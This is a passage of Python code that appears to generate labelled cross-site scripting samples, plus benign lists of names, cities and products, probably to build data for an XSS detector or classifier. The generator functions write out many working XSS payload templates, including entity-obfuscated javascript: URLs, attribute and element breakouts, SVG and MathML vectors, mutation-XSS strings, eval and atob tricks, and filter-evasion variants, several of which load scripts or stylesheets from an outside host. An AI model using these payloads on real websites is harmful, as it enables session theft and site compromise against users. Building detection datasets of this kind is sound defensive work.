                  "=": ["&equals;"], "+": ["&plus;"], "`": ["&grave;"], "<": ["&lt;"],
                  ">": ["&gt;"], "&": ["&amp;"], "[": ["&lsqb;", "&lbrack;"], "]": ["&rsqb;"],
                  ";": ["&semi;"]}


def entity_of(d, ch, nxt=""):
    forms = [(f"&#{ord(ch)};", 4), (f"&#x{ord(ch):x};", 3), (f"&#X{ord(ch):X};", 0.5),
             (f"&#{'0' * d.randint(1, 5)}{ord(ch)};", 1)]
    if not nxt[:1].isdigit():
        forms.append((f"&#{'0' * d.randint(0, 5)}{ord(ch)}", 1))  # no semicolon
    if ch in NAMED_ENTITIES:
        forms.append((d.pick(NAMED_ENTITIES[ch]), 3))
    return d.wpick(forms)


def entity_obfuscate(d, s, density):
    out = []
    for i, ch in enumerate(s):
        out.append(entity_of(d, ch, s[i + 1:i + 2]) if d.chance(density) else ch)
    return "".join(out)


def obfuscated_scheme(d):
    """javascript: with the characters browsers drop or decode inside attribute values."""
    scheme = "javascript:"
    shape = d.wpick([("entities", 6), ("tab_inside", 2), ("named_colon", 1.5), ("leading", 1)])
    if shape == "entities":
        return entity_obfuscate(d, scheme, d.pick([0.15, 0.3, 0.6, 1.0]))
    if shape == "tab_inside":
        k = d.randint(1, len(scheme) - 2)
        return scheme[:k] + d.pick(["&#x09;", "&#9;", "&Tab;", "&#x0A;", "&NewLine;", "&#13;", "\t", "&#x0D;"]) + scheme[k:]
    if shape == "named_colon":
        return "javascript&colon;"
    return d.pick(["&#x20;", "&#32;", "&#01;", "&#x0B;", "&#14;"]) * d.randint(1, 3) + scheme


@family("xss", "entity_obfuscation")
def xss_entity_obfuscation(d):
    act = js_action(d)
    if len(act) > 30 and d.chance(0.7):
        act = d.pick(["alert(1)", "alert(document.domain)", "confirm(1)", "prompt(1)",
                      "alert(document.cookie)", "alert`1`", "print()"])
    shape = d.wpick([("href", 6), ("handler", 4), ("srcdoc", 2), ("iframe_src", 2),
                     ("meta", 0.7), ("full", 1.5), ("form", 1)])
    d.note("entities_" + shape)
    if shape in ("href", "iframe_src", "form", "full"):
        if shape == "full":
            url = entity_obfuscate(d, "javascript:" + act, 1.0)
        else:
            url = obfuscated_scheme(d) + (entity_obfuscate(d, act, 0.3) if d.chance(0.3) else act)
        if shape == "href" or shape == "full":
            t = tag(d, "a", [("href", url)]) + d.pick(["click", "x", "XSS", ""]) + d.pick([end_tag(d, "a"), ""])
        elif shape == "iframe_src":
            t = tag(d, "iframe", [("src", url)]) + d.pick(["", end_tag(d, "iframe")])
        else:
            t = tag(d, "form", [("action", url)]) + tag(d, "input", [("type", "submit")])
        return xss(d, t)
    if shape == "handler":
        body = entity_obfuscate(d, act, d.pick([0.2, 0.5, 1.0])) if d.chance(0.6) else \
            act.replace("(", d.pick(["&lpar;", "&#40;", "&#x28;"])).replace(")", d.pick(["&rpar;", "&#41;", "&#x29;"]))
        if body == act:
            body = entity_obfuscate(d, act, 1.0)
        el = d.wpick([("img", 5), ("svg", 4), ("body", 1), ("details", 1), ("input", 1)])
        if el == "img":
            t = tag(d, "img", [("src", "x"), ("onerror", body)])
        elif el == "svg":
            t = tag(d, "svg", [("onload", body)])
        elif el == "body":
            t = tag(d, "body", [("onload", body)])
        elif el == "details":
            t = tag(d, "details", [("open", None), ("ontoggle", body)])
        else:
            t = tag(d, "input", [("autofocus", None), ("onfocus", body)])
        return xss(d, t)
    if shape == "srcdoc":
        inner = generic_payload(d, act) if d.chance(0.6) else "<script>" + act + "</script>"
        enc = d.pick(["lt", "num", "all"])
        if enc == "lt":
            doc = inner.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
        elif enc == "num":
            doc = inner.replace("&", "&#38;").replace("<", "&#60;").replace(">", "&#62;").replace('"', "&#34;")
        else:
            doc = entity_obfuscate(d, inner, 0.7).replace('"', "&quot;")
        return xss(d, tag(d, "iframe", [("srcdoc", doc)]) + d.pick(["", end_tag(d, "iframe")]))
    url = obfuscated_scheme(d) + act
    return xss(d, tag(d, "meta", [("http-equiv", "refresh"), ("content", "0;url=" + url)]))


@family("xss", "attribute_breakout")
def xss_attribute_breakout(d):
    act = js_action(d)
    shape = d.wpick([("tag", 5), ("attr", 6), ("unquoted", 2)])
    d.note("breakout_" + shape)
    if shape == "tag":
        close = d.pick(['">', "'>", '"/>', "'/>", 'x">', '" >', "\">'>", '"></a>', "'></div>",
                        '">"', '"/>\'/>', '">--!>', '"]>'])
        return xss(d, d.pick(["", "", "", "1", "test", "x", "abc"]) + close + generic_payload(d, act))
    q = d.pick(['"', '"', '"', "'"])
    lead = d.pick(["", "", "x", "1", "test", "abc"]) + q
    ev = d.wpick([("onmouseover", 4), ("onfocus", 4), ("onclick", 2), ("onpointerenter", 1),
                  ("onmouseenter", 1), ("onerror", 1), ("onload", 0.6), ("onfocusin", 0.6),
                  ("onanimationstart", 0.5), ("onblur", 0.4), ("ontoggle", 0.3),
                  ("onpointerover", 0.5), ("oninput", 0.3), ("onkeydown", 0.3)])
    extras = []
    if ev in ("onfocus", "onfocusin", "onblur"):
        extras = d.pick([[("autofocus", None)], [("autofocus", None), ("tabindex", "1")], [("tabindex", "0")]])
    elif ev == "onanimationstart":
        extras = [("style", "animation-name:" + d.pick(["rotation", "spin", "x", "fadeIn", "blink"]))]
    elif ev in ("onmouseover", "onmouseenter", "onpointerenter", "onpointerover") and d.chance(0.3):
        extras = [("style", d.pick(["position:fixed;top:0;left:0;width:100%;height:100%",
                                    "display:block;font-size:500px"]))]
    elif ev == "onerror":
        extras = d.pick([[("src", "x")], []])
    if shape == "unquoted":
        attrs = with_handler(d, extras, ev, act)
        s = d.pick(["x", "1", "test", ""]) + d.pick([" ", "/", "\t", " "])
        joiner = d.pick([" ", "/"])
        out = ""
        for k, (an, av) in enumerate(attrs):
            if k:
                # A '/' after an unquoted value would become part of the value.
                out += " " if attrs[k - 1][1] is not None else joiner
            out += xname(d, an) + ("" if av is None else "=" + (av if " " not in av and ">" not in av else '"' + av + '"'))
        return xss(d, s + out)
    # Inside a quoted attribute value: close it, add attributes, leave the application's own
    # closing quote something to close.
    attrs = with_handler(d, extras, ev, act)
    parts = []
    for an, av in attrs:
        name = xname(d, an)
        if av is None:
            parts.append(name)
        elif q in av:
            other = "'" if q == '"' else '"'
            parts.append(f"{name}={other}{av}{other}")
        else:
            parts.append(f"{name}={q}{av}{q}")
    sep = d.wpick([(" ", 8), ("", 1.5), ("/", 1), ("\t", 0.5), ("\n", 0.5)])
    if sep != " ":
        d.note("tag_separator")
    tail = d.wpick([("open_last", 5), ("dangling", 3), ("comment", 1.5), ("close_tag", 1)])
    if tail == "open_last" and parts[-1].endswith(q) and not parts[-1].endswith(f"={q}{q}"):
        body = sep + " ".join(parts)[:-1]
    elif tail == "comment" and parts[-1].endswith(q):
        last = parts[-1][:-1]
        body = sep + " ".join(parts[:-1] + [last + d.pick(["//", ";//"])])
    elif tail == "close_tag":
        body = sep + " ".join(parts) + d.pick([">", "/>", " x>", "><!--"])
    else:
        body = sep + " ".join(parts) + " " + d.pick(["x=", "a=", "b=", "x"]) + (q if d.chance(0.8) else "")
    return xss(d, lead + body)


CONTAINER_CLOSERS = ["</title>", "</textarea>", "</style>", "</script>", "-->", "--!>", "]]>",
                     "</noscript>", "</iframe>", "</xmp>", "</noembed>", "</noframes>",
                     "</template>", "</select>", "</option></select>", "</table>", "</math>",
                     "</svg>", "</div>", "</p>", "*/</style>", "</a>", "</form>", "</plaintext>",
                     "</textarea></div>", "</title></head><body>", "</object>", "</pre>",
                     "</code>", "</span>", "</td></tr></table>", "</button>", "</label>"]


@family("xss", "element_breakout")
def xss_element_breakout(d):
    act = js_action(d)
    closer = d.pick(CONTAINER_CLOSERS)
    if d.chance(0.15):
        closer = closer.upper()
    lead = d.wpick([("", 6), ('">', 1.5), ("'>", 1), ("x", 0.5), ('"/>', 0.5), ("'\">", 0.5),
                    ("');", 0.3), ("\";", 0.3)])
    d.note("closes_" + closer.strip("</>*!-]").split(">")[0].lower().replace("/", "") if closer.strip("</>*!-]") else "closes_comment")
    return xss(d, lead + closer + generic_payload(d, act))


@family("xss", "style_and_legacy")
def xss_style_legacy(d):
    act = js_action(d)
    host = d.pick(XSS_HOSTS)
    kind = d.wpick([("expression", 4), ("css_url_js", 3), ("import", 3), ("behavior", 1.5),
                    ("moz_binding", 1), ("meta", 2), ("base", 2), ("obsolete_attr", 3),
                    ("vbscript", 1.5), ("link", 1.5), ("scriptlet", 0.7), ("css_escape", 1.5)])
    d.note("legacy_" + kind)
    el = d.pick(["div", "xss", "img", "p", "span", "a", "x", "b", "table", "input"])
    if kind == "expression":
        expr = d.pick(["expression", "expression", "Expression", "expr/**/ession", "ex/**/pression", "EXPRESSION"])
        prop = d.pick(["width", "x", "background", "color", "xss", "height", "left"])
        if d.chance(0.5):
            t = tag(d, el, [("style", f"{prop}:{expr}({act})")])
        else:
            t = tag(d, "style") + d.pick(["*", "body", "div", "a", "p", "img"]) + "{" + f"{prop}:{expr}({act})" + "}" + end_tag(d, "style")
    elif kind == "css_url_js":
        url = d.pick([f'"javascript:{act}"', f"javascript:{act}", f"'javascript:{act}'"])
        prop = d.pick(["background", "background-image", "list-style-image", "content", "cursor", "behavior"])
        if d.chance(0.5):
            t = tag(d, el, [("style", f"{prop}:url({url})")])
        else:
            sel = d.pick(["body", "li", "*", "div", "a"])
            t = tag(d, "style") + f"{sel}{{{prop}:url({url})}}" + end_tag(d, "style") + ("<ul><li>x</ul>" if sel == "li" else "")
    elif kind == "import":
        target = d.pick([f"'javascript:{act}'", f'"javascript:{act}"', f"url(//{host}/x.css)",
                         f"'//{host}/x.css'", f"url(javascript:{act})", f'"http://{host}/evil.css"'])
        t = tag(d, "style") + f"@import {target};" + end_tag(d, "style")
    elif kind == "behavior":
        t = tag(d, el, [("style", f"behavior:url(//{host}/{d.pick(['x.htc', 'xss.htc', 'a.htc'])})")])
    elif kind == "moz_binding":
        t = tag(d, el, [("style", f"-moz-binding:url(//{host}/x.xml#xss)")])
    elif kind == "meta":
        content = d.pick([f"0;url=javascript:{act}", f"0; URL=javascript:{act}",
                          "0;url=data:text/html;base64," + b64("<script>" + act + "</script>"),
                          f"1;url=//{host}/phish", f"0;url=vbscript:msgbox(1)"])
        t = tag(d, "meta", [("http-equiv", d.pick(["refresh", "Refresh", "REFRESH"])), ("content", content)])
    elif kind == "base":
        t = tag(d, "base", [("href", d.pick([f"//{host}/", f"https://{host}/", f"http://{host}/static/", f"javascript:{act}//"]))])
        if d.chance(0.3):
            t += tag(d, "script", [("src", d.pick(["/js/app.js", "app.js", "main.js"]))]) + end_tag(d, "script")
    elif kind == "obsolete_attr":
        attr, tname = d.pick([("src", "bgsound"), ("background", "table"), ("background", "td"),
                              ("dynsrc", "img"), ("lowsrc", "img"), ("src", "img"), ("background", "body"),
                              ("src", "layer"), ("src", "input")])
        extra = [("type", "image")] if tname == "input" else []
        t = tag(d, tname, extra + [(attr, f"javascript:{act}")])
        if d.chance(0.2):
            t = tag(d, "br", [("size", "&{" + act + "}")])
    elif kind == "vbscript":
        vb = d.pick(["vbscript:msgbox(1)", "vbscript:MsgBox(\"XSS\")", "VBScript:Execute(\"MsgBox 1\")", "vbscript:alert(1)"])
        t = d.pick([tag(d, "a", [("href", vb)]) + "x" + end_tag(d, "a"), tag(d, "img", [("src", vb)]),
                    tag(d, "iframe", [("src", vb)]), tag(d, el, [("style", f"background:url({vb})")])])
    elif kind == "link":
        t = tag(d, "link", [("rel", d.pick(["stylesheet", "import", "prefetch stylesheet"])), ("href", d.pick([f"javascript:{act}", f"//{host}/x.css", f"//{host}/x.html"]))])
    elif kind == "scriptlet":
        t = d.pick([tag(d, "object", [("type", "text/x-scriptlet"), ("data", f"//{host}/x.sct")]) + end_tag(d, "object"),
                    tag(d, "embed", [("src", f"//{host}/x.swf"), ("allowscriptaccess", "always")]),
                    tag(d, "object", [("classid", "clsid:ae24fdae-03c6-11d1-8b76-0080c744f389")]) + tag(d, "param", [("name", "url"), ("value", f"javascript:{act}")])])
    else:
        escaped = d.pick(["\\65xpression", "e\\xpression", "expr\\65ssion", "\\0065xpression"])
        if d.chance(0.5):
            t = tag(d, el, [("style", f"x:{escaped}({act})")])
        else:
            t = tag(d, "style") + f"@im\\port'\\ja\\vasc\\ript:{act}';" + end_tag(d, "style")
    return xss(d, t)


@family("xss", "svg_and_math")
def xss_svg_math(d):
    act = js_action(d)
    host = d.pick(XSS_HOSTS)
    s, es = (lambda n, a=(), c=">": tag(d, n, a, c)), (lambda n: end_tag(d, n))
    kind = d.wpick([("svg_script", 3), ("svg_script_entities", 1.5), ("svg_script_href", 1),
                    ("animate", 3), ("set", 1), ("animate_href", 1.5), ("svg_a", 2.5), ("svg_image", 1.5),
                    ("foreign", 1), ("use", 1), ("discard", 0.7), ("math_a", 2), ("math_href", 1),
                    ("maction", 0.5), ("mxss_math", 1), ("noscript_title", 1), ("cdata", 1),
                    ("svg_style", 0.7), ("handler_ns", 0.5), ("svg_nested", 0.7)])
    d.note(kind if kind.startswith(("svg_", "math_")) else "svg_" + kind)
    js = "javascript:" + act
    if kind == "svg_script":
        t = s("svg") + s("script") + act + es("script") + d.pick(["", es("svg")])
    elif kind == "svg_script_entities":
        t = s("svg") + s("script") + act.replace("(", d.pick(["&#40;", "&lpar;", "&#x28;"])).replace(")", d.pick(["&#41;", "&rpar;", "&#x29;"])) + es("script")
        if "&" not in t:
            t = s("svg") + s("script") + entity_obfuscate(d, act, 0.5) + es("script")
    elif kind == "svg_script_href":
        t = s("svg") + s("script", [(d.pick(["href", "xlink:href"]), d.pick([f"//{host}/x.js", f"data:,{act}"]))], d.pick([" />", "/>", ">" + es("script")])) + d.pick(["", es("svg")])
    elif kind == "animate":
        el = d.pick(["animate", "animatetransform", "animateMotion", "animateColor"])
        t = s("svg") + s(el, with_handler(d, [("attributeName", "x"), ("dur", d.pick(["1s", "0.1s", "5s"]))], "onbegin", act)) + d.pick(["", es("svg")])
    elif kind == "set":
        t = s("svg") + s("set", with_handler(d, [("attributeName", d.pick(["x", "fill", "href"])), ("to", "1")], d.pick(["onbegin", "onend", "onrepeat"]), act))
    elif kind == "animate_href":
        t = s("svg") + s("a") + s("animate", [("attributeName", "href"), ("values", js)], " />") + s("text", [("x", "20"), ("y", "20")]) + d.pick(["click", "XSS", "x"]) + es("text") + es("a") + es("svg")
    elif kind == "svg_a":
        t = s("svg") + s("a", [(d.pick(["xlink:href", "href"]), js)]) + d.pick([s("text", [("x", "20"), ("y", "20")]) + "XSS" + es("text"), s("rect", [("width", "100"), ("height", "100")], " />"), s("circle", [("r", "50")], "/>")]) + es("a") + es("svg")
    elif kind == "svg_image":
        t = s("svg") + s("image", with_handler(d, [(d.pick(["href", "xlink:href"]), "x")], "onerror", act), " />") + d.pick(["", es("svg")])
    elif kind == "foreign":
        t = s("svg") + s("foreignObject") + d.pick([s("iframe", [("src", js)]), generic_payload(d, act)]) + es("foreignObject") + es("svg")
    elif kind == "use":
        inner = f'<svg id="x" xmlns="http://www.w3.org/2000/svg"><image href="1" onerror="{act.replace(chr(34), chr(39))}"/></svg>'
        t = s("svg") + s("use", [("href", "data:image/svg+xml;base64," + b64(inner) + "#x")], " />") + es("svg")
    elif kind == "discard":
        t = s("svg") + s("discard", [("onbegin", act)], d.pick([" />", ">"]))
    elif kind == "math_a":
        el = d.pick(["a", "a", "mi", "mtext", "mo"])
        t = s("math") + s(el, [("xlink:href", js)]) + d.pick(["click", "x", "XSS"]) + es(el) + es("math")
    elif kind == "math_href":
        t = s("math", [("href", js)]) + d.pick(["click", "CLICKME", "x"]) + es("math")
    elif kind == "maction":
        t = s("math") + s("maction", [("actiontype", "statusline"), ("xlink:href", js)]) + "click" + s("mtext") + "x" + es("mtext") + es("maction") + es("math")
    elif kind == "mxss_math":
        t = d.pick(["<math><mtext><table><mglyph><style>", "<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title=\"</style>",
                    "<form><math><mtext></form><form><mglyph><style></math>", "<svg></p><style><a id=\"</style>"])
        onerror = act.replace('"', "'")
        t += f"<img src=x onerror={onerror}>" if " " not in onerror else f"<img src=x onerror=\"{onerror}\">"
        if t.count('"') % 2:
            t += '">'
    elif kind == "noscript_title":
        inner = generic_payload(d, act).replace('"', "'")
        t = d.pick([f'<noscript><p title="</noscript>{inner}">', f'<noembed><img title="</noembed>{inner}">',
                    f'<iframe><p title="</iframe>{inner}">', f'<noframes><p title="</noframes>{inner}">',
                    f'<style><a title="</style>{inner}">'])
    elif kind == "cdata":
        el = d.pick(["desc", "title"])
        t = s("svg") + s(el) + "<![CDATA[" + f"</{el}>" + s("script") + act + es("script") + "]]>" + es(el) + es("svg")
    elif kind == "svg_style":
        t = s("svg") + s("style") + generic_payload(d, act) + es("style") + d.pick(["", es("svg")])
    elif kind == "handler_ns":
        t = s("svg", [("xmlns", "http://www.w3.org/2000/svg")]) + s("handler", [("xmlns:ev", "http://www.w3.org/2001/xml-events"), ("ev:event", "load")]) + act + es("handler") + es("svg")
    else:
        t = s("svg") + s("svg", [("onload", act)]) + d.pick(["", es("svg") + es("svg")])
    return xss(d, t)


@family("xss", "filter_evasion")
def xss_filter_evasion(d):
    act = js_action(d)
    host = d.pick(XSS_HOSTS)
    kind = d.wpick([("nested_tag", 2), ("double_lt", 1.5), ("quote_confusion", 1),
                    ("unterminated", 2.5), ("backtick", 1), ("alt_eval", 1), ("js_escape_ident", 2),
                    ("slashes", 2), ("null_byte", 1.5), ("img_js_src", 1.5), ("label", 1),
                    ("atob_name", 1), ("doubled_gt", 1), ("charcode", 1), ("spaced_eq", 1),
                    ("junk_attrs", 1.5), ("comment_split", 1), ("location_concat", 1),
                    ("throw_onerror", 0.7), ("bracket_tag", 0.7)])
    d.note("evasion_" + kind)
    if kind == "nested_tag":
        t = d.pick([f"<scr<script>ipt>{act}</scr</script>ipt>", f"<scr<script>ipt>{act}</script>",
                    f"<sc<script>ript>{act}</sc</script>ript>", f"<img src=x on<script>error=alert(1)>",
                    f"<svg/on<svg>load={act}>", f"<<script>script>{act}<</script>/script>",
                    f"<scrscriptipt>{act}</scrscriptipt>", f"<imgimg src=x onerror=onerror={act}>"])
    elif kind == "double_lt":
        t = d.pick([f"<<script>{act}//<</script>", f"<<img src=x onerror={act}>>", f"<<svg onload={act}>>",
                    f"<<script>{act};//<</script>", f"<</script><script>{act}</script>"])
    elif kind == "quote_confusion":
        t = d.pick([f'<img """><script>{act}</script>">', f"<img '''><script>{act}</script>'>",
                    f'<a"/onclick=({d.pick(["confirm", "alert", "prompt"])})()>click', f'<img src="x` `<script>{act}</script>"` `>',
                    f"<img src='x'onerror='{act}'>" if "'" not in act else f'<img src="x"onerror="{act}">'])
    elif kind == "unterminated":
        t = d.pick([tag(d, "img", [("src", "x"), ("onerror", act)], close="//"), tag(d, "svg", [("onload", act)], close="//"),
                    tag(d, "svg", [("onload", act)], close=""), tag(d, "img", [("src", "x"), ("onerror", act)], close=" "),
                    tag(d, "body", [("onload", act)], close=""), tag(d, "svg", [("onload", act)], close=" <")])
    elif kind == "backtick":
        t = d.pick([f"<img src=`x`onerror={act}>", f"<img src=x onerror=`{act}`>", f"<svg onload=`{act}`>", f"<a href=`javascript:{act}`>x</a>"])
        if "`" in act and "`" + act in t:
            t = f"<img src=`x`onerror={act}>"  # the action has its own backticks
    elif kind == "alt_eval":
        t = d.pick(["<img src=x:alert(alt) onerror=eval(src) alt=0>", "<img src=x:alert(1) onerror=eval(src)>",
                    "<img id=alert(1) src=x onerror=eval(id)>", "<svg id=alert(1) onload=eval(id)>",
                    "<img alt=alert(document.domain) src=x onerror=eval(alt)>", f"<img src=x title={b64('alert(1)')} onerror=eval(atob(title))>",
                    "<a id=x tabindex=1 onfocus=eval(name) autofocus>", "<iframe name=alert(1) src=x onload=eval(name)>"])
    elif kind == "js_escape_ident":
        word = d.pick(["alert", "confirm", "prompt"])
        i = d.randint(0, len(word) - 1)
        esc = word[:i] + d.pick([f"\\u{ord(word[i]):04x}", f"\\u{{{ord(word[i]):x}}}", f"\\u00{ord(word[i]):x}"]) + word[i + 1:]
        t = d.pick([f"<script>{esc}(1)</script>", f"<img src=x onerror={esc}(1)>", f"<svg onload={esc}(document.domain)>",
                    f"<img src=x onerror=eval('\\x{ord(word[0]):x}{word[1:]}(1)')>", f"<svg onload=setTimeout('\\x{ord(word[0]):x}{word[1:]}\\x281\\x29')>",
                    f"<script>eval('\\u{ord(word[0]):04x}{word[1:]}(1)')</script>"])
    elif kind == "slashes":
        t = d.pick([f"<svg{'/' * d.randint(1, 9)}onload={act}>", f"<img/src/onerror={act}>", f"<img/src='x'/onerror={act}>",
                    f"<svg/onload={act}//", f"<iframe/src=javascript:{act}>", f"<body/onload={act}>", f"<x/onclick={act}>click",
                    f"<x/onpointerenter={act}>move", f"<details/open/ontoggle={act}>", f"<input/autofocus/onfocus={act}>"])
    elif kind == "null_byte":
        z = d.pick(["\x00", "%00", "&#0;"])
        t = d.pick([f"<scr{z}ipt>{act}</scr{z}ipt>", f"<img src=x on{z}error={act}>", f"<img src=x onerror{z}={act}>",
                    f"<svg on{z}load={act}>", f"<a href=java{z}script:{act}>x</a>", f"{z}<script>{act}</script>"])
    elif kind == "img_js_src":
        scheme = d.pick(["javascript:", "JaVaScRiPt:", "jav\tascript:", "jav&#x09;ascript:", "  javascript:"])
        t = d.pick([f"<IMG SRC={scheme}{act}>", f'<IMG SRC="{scheme}{act}">', f"<img src={scheme}{act}>", f"<input type=image src={scheme}{act}>"])
    elif kind == "label":
        t = d.pick([f'<img src=x onerror="javascript:{act}">', f"<svg onload=javascript:{act}>", f'<body onload="javascript:{act}">',
                    f"<img src=1 onerror=x:{act}>"])
    elif kind == "atob_name":
        word = d.pick(["alert", "confirm", "prompt", "eval"])
        arg = "1" if word != "eval" else "'alert(1)'"
        t = d.pick([f"<img src=x onerror=window[atob('{b64(word)}')]({arg})>", f"<svg onload=top[atob`{b64(word)}`]({arg})>",
                    f"<img src=x onerror=self[{int(word, 36)}..toString(36)]({arg})>" if word.isalpha() and word != "eval" else f"<img src=x onerror=eval(atob('{b64('alert(1)')}'))>",
                    f"<svg onload=window[/{word[:2]}/.source+/{word[2:]}/.source]({arg})>"])
    elif kind == "doubled_gt":
        t = generic_payload(d, act) + d.pick([">", ">>", "\">", "'>", "<!--"])
    elif kind == "charcode":
        codes = ",".join(str(ord(c)) for c in act)
        t = d.pick([f"<script>eval(String.fromCharCode({codes}))</script>", f"<img src=x onerror=eval(String.fromCharCode({codes}))>",
                    f"<svg onload=eval(String.fromCharCode({codes}))>"])
    elif kind == "spaced_eq":
        t = d.pick([f"<img src = x onerror = {act}>", f"<svg onload ={act}>", f"<img src=x onerror= {act}>", f"<svg onload\t=\t{act}>",
                    f"<body onload = {act}>"])
        if " " in act and "= " + act in t:
            t = t.replace("= " + act, '= "' + act + '"')
    elif kind == "junk_attrs":
        junk = " ".join(d.pick(["x", "y=1", "data-a=b", "id=x", "class=c", "a=\"b\"", "title='t'", "style=x"]) for _ in range(d.randint(1, 4)))
        el, ev, base = d.pick([("img", "onerror", "src=x"), ("svg", "onload", ""), ("body", "onload", ""), ("input", "onfocus", "autofocus")])
        t = f"<{el} {junk}{' ' + base if base else ''} {ev}={act if ' ' not in act else chr(34) + act + chr(34)} {junk.split()[0]}>"
    elif kind == "comment_split":
        t = d.pick([f"<!--><script>{act}</script>-->", f"<!--<img src=\"--><img src=x onerror={act}//\">", f"<!-- --!><svg onload={act}>",
                    f"<?xml version=\"1.0\"?><svg onload={act}>", f"<!><script>{act}</script>", f"<? foo=\"><script>{act}</script>\">"])
    elif kind == "location_concat":
        t = d.pick([f"<img src=x onerror=location='javas'+'cript:'+'{act.replace(chr(39), chr(34))}'>",
                    f"<svg onload=location=`javas`+`cript:alert(1)`>", f"<img src=x onerror=location=name>",
                    f"<body onload=location='javascript:'+decodeURI('{act.replace(chr(39), chr(34)).replace('(', '%28').replace(')', '%29')}')>"])
    elif kind == "throw_onerror":
        t = d.pick(["<script>onerror=alert;throw 1</script>", "<script>{onerror=alert}throw 1</script>",
                    "<svg onload=window.onerror=alert;throw/**/1>", "<script>throw onerror=eval,'=alert\\x281\\x29'</script>",
                    "<img src=x onerror=\"window.onerror=alert;throw document.domain\">"])
    else:
        t = d.pick([f"<svg><script>{act}</script>", f"<x <script>{act}</script>", f"<a <img src=x onerror={act}>>",
                    f"</ <svg onload={act}>", f"<!DOCTYPE html><svg onload={act}>"])
    if d.chance(0.2):
        t = apply_case_html(d, t)
    return xss(d, t)


def apply_case_html(d, t):
    """Mixes the case of tag and attribute names (not of the script)."""
    out, i = [], 0
    while i < len(t):
        if t[i] == "<":
            j = i + 1
            while j < len(t) and (t[j].isalpha() or t[j] == "/"):
                j += 1
            out.append("<" + "".join(c.upper() if d.chance(0.5) else c for c in t[i + 1:j]))
            i = j
        else:
            out.append(t[i])
            i += 1
    d.note("case_mixed")
    return "".join(out)


# --------------------------------------------------------------------------------------------
# Benign
# --------------------------------------------------------------------------------------------

FIRST = ["Mary", "John", "Aoife", "Seán", "Siobhán", "Pádraig", "Niamh", "Ciarán", "Chloé",
         "François", "Zoë", "Jürgen", "Anneliese", "José", "María", "Lucía", "Giulia", "Marco",
         "Sanne", "Daan", "Zofia", "Łukasz", "Ayşe", "Mehmet", "Yuki", "Haruto", "Wei", "Mei",
         "Fatima", "Omar", "Olga", "Dmitri", "Priya", "Arjun", "Kwame", "Amara", "Liam",
         "Emma", "Noah", "Olivia", "Mary-Jane", "Jean-Luc", "Anne-Marie", "D'Arcy", "Renée",
         "Björn", "Søren", "Nuño", "Eoin", "Saoirse", "Tomás", "Grace", "Ahmed", "Ngozi",
         "Hannah", "Oliver", "Sophie", "Jack", "Isla", "Kai"]
LAST = ["O'Brien", "O'Connor", "O'Neill", "O'Sullivan", "D'Angelo", "D'Arcy", "McDonald",
        "MacLeod", "Smith-Jones", "van der Berg", "de la Cruz", "Ní Bhriain", "Ó Súilleabháin",
        "Mac Giolla Phádraig", "Dell'Acqua", "L'Estrange", "St. John", "Fitzgerald",
        "García-López", "Müller", "Schäfer", "Nowak", "Kowalski", "Wiśniewska", "Yılmaz",
        "Öztürk", "Tanaka", "Suzuki", "Zhang", "Li", "Ivanova", "Petrov", "Al-Farsi",
        "Abu-Bakr", "N'Diaye", "Nguyễn", "Kelly", "Byrne", "Murphy", "Walsh", "Smith",
        "Johnson", "Williams", "Brown", "Taylor", "Dubois", "Lefèvre", "Rossi", "Bianchi",
        "Jansen", "de Vries", "Fernández", "Okafor", "Mensah", "Patel", "Sharma", "O'Hara",
        "O'Donnell", "Ó Ceallaigh", "Le Fèvre", "d'Alembert"]
CITIES = ["Dublin", "Cork", "Galway", "London", "Paris", "Berlin", "Madrid", "Rome", "Amsterdam",
          "Warsaw", "Istanbul", "Tokyo", "Beijing", "Cairo", "Moscow", "New York", "Chicago",
          "São Paulo", "Zürich", "Kraków", "Köln", "Montréal", "Bogotá", "Reykjavík", "Lisbon",
          "Athens", "Sydney", "Toronto", "Limerick", "Kilkenny", "Düsseldorf", "Málaga",
          "Nice", "Lyon", "Porto", "Gdańsk", "İzmir", "Osaka", "Seattle", "Austin"]
STREETS = ["O'Connell Street", "Baker Street", "Grafton Street", "Main Street", "High Street",
           "Church Road", "Station Road", "Rue de l'Église", "Hauptstraße", "Calle Mayor",
           "Via Roma", "Kerkstraat", "ul. Długa", "Maple Avenue", "Queen's Road",
           "St. Stephen's Green", "King's Parade", "Elm Street", "Avenue des Champs-Élysées",
           "Sunset Blvd", "Mill Lane", "Harbour View", "Bóthar na Trá", "Rue du Faubourg"]
DAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday"]
MONTHS = ["January", "February", "March", "April", "May", "June", "July", "August",
          "September", "October", "November", "December"]
ITEMS = ["blender", "headphones", "kettle", "backpack", "phone case", "desk lamp", "sofa",
         "toaster", "bike helmet", "rain jacket", "coffee grinder", "monitor", "keyboard",
         "yoga mat", "frying pan", "duvet cover", "printer", "vacuum", "air fryer",
         "running shoes", "camera bag", "tent", "umbrella", "watch strap", "lunch box"]
FOODS = ["pizza", "fish and chips", "ramen", "tacos", "paella", "croissants", "dumplings",
         "curry", "lasagne", "bagels", "pancakes", "sushi", "falafel", "goulash", "soda bread",
         "apple tart", "scones", "pho", "risotto", "burritos"]
PLACES = ["the library", "the station", "Joe's café", "the town hall", "the park", "St. Mary's",
          "the gym", "the school gate", "the post office", "Murphy's pub", "the market",
          "the community centre", "the clinic", "the harbour", "the old mill", "Tesco",
          "the airport", "Aunt Rose's", "the office", "the hotel lobby"]
ADJ = ["great", "brilliant", "terrible", "lovely", "decent", "awful", "amazing", "solid",
       "so-so", "fantastic", "disappointing", "perfect", "cheap", "sturdy", "flimsy", "quiet",
       "noisy", "comfy", "gorgeous", "handy"]
DOMAINS = ["example.com", "example.org", "example.net", "mail.example.com", "example.co.uk",
           "example.ie", "example.de", "example.fr", "example.es", "shop.example",
           "uni.example.edu", "example.jp", "post.example.pl", "example.com.tr", "test.example"]


def name(d):
    return d.pick(FIRST) + " " + d.pick(LAST)


def ascii_fold(s):
    """Drops accents the way people write their names in e-mail addresses (Seán -> sean)."""
    s = s.translate(str.maketrans({"ł": "l", "Ł": "L", "ø": "o", "ß": "ss", "ı": "i", "đ": "d"}))
    s = unicodedata.normalize("NFKD", s)
    return "".join(ch for ch in s if ch.isascii())


def clock(d):
    return d.pick([f"{d.randint(1, 12)}", f"{d.randint(1, 12)}:{d.pick(['00', '15', '30', '45'])}",
                   f"{d.randint(1, 12)} {d.pick(['am', 'pm', 'a.m.', 'p.m.'])}",
